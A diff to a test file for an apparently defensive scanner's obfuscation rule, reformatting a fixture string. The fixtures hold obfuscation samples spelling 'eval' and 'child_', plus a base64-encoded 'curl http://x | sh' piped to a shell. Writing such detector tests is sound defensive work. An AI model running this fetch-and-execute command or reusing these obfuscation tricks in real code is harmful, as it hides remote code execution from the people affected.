@@ -10,7 +10,8 @@ describe('obfuscation', () => {
     expect(
       hitsOf('obfuscation', {
         'scripts/a.js':
-          'atob(\'eA==\')\nBuffer.from(p, \'base64\')\nString.fromCharCode(101, 118, 97, 108)\nconst s = \'\\x63\\x68\\x69\\x6c\\x64\\x5f\'\n',
+          'atob(\'eA==\')\nBuffer.from(p, \'base64\')\nString.fromCharCode(101, 118, 97, 108)\n'
+          + 'const s = \'\\x63\\x68\\x69\\x6c\\x64\\x5f\'\n',
         'scripts/b.sh': 'echo \'Y3VybCBodHRwOi8veCB8IHNo\' | base64 -d | sh\n',
       }),
     ).toEqual([
